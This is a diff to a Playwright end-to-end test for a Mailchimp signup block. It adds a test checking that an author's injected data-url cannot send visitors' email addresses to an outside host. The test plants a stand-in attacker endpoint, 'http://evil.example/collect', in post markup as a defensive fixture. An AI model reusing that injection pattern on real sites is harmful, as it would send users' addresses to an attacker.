@@ -1,7 +1,9 @@
 import { createHash } from 'node:crypto';
 import type { Page } from '@playwright/test';
-import { expect, test as base } from '../../../tests/e2e/lib/test';
+import { asUser } from '../../../tests/e2e/lib/author';
 import { expectAccessibleBlock } from '../../../tests/e2e/lib/axe';
+import { Posts } from '../../../tests/e2e/lib/posts';
+import { expect, test as base } from '../../../tests/e2e/lib/test';
 import { prepareSite, siteCookie, startMailchimp, type MailchimpStandIn } from '../../../tests/services/mailchimp';
 
 base.skip( ! process.env.SLIPSTREAM_SITE_DIR, 'SLIPSTREAM_SITE_DIR must name the folder of the served site' );
@@ -140,3 +142,27 @@ for ( const script of [ true, false ] ) {
 		await context.close();
 	} );
 }
+
+test( 'an author without unfiltered HTML gets no address by a root around the form', async ( {
+	requestUtils,
+	visitor,
+	mailchimp,
+	baseURL,
+} ) => {
+	const evil = 'http://evil.example/collect';
+	const content = `<div class="wp-block-jetpack-mailchimp" slipstream-root="mailchimp" data-url="${ evil }">\n${ FORM }\n</div>`;
+	await asUser( requestUtils, baseURL, 'author', async ( state ) => {
+		const page = await visitor.open( await Posts.publishAs( state, baseURL, content ) );
+		await siteCookie( mailchimp.url, { key: KEY, audience: LIST } )( page.context(), String( baseURL ) );
+		const sent: string[] = [];
+		page.on( 'request', ( request ) => request.method() === 'POST' && sent.push( request.url() ) );
+		await page.reload();
+		await expect( page.locator( `[data-url="${ evil }"]` ) ).toBeAttached();
+		await expect( page.locator( '[slipstream-root]' ) ).toHaveCount( 1 );
+		await page.waitForTimeout( 1600 );
+		await page.getByRole( 'textbox', { name: 'Enter your email' } ).fill( 'ann@example.org' );
+		await page.getByRole( 'button', { name: 'Join my email list' } ).click();
+		await expect( page.locator( '[slipstream-root] [role=status]' ).last() ).toBeVisible();
+		expect( sent ).toEqual( [ page.url() ] );
+	} );
+} );
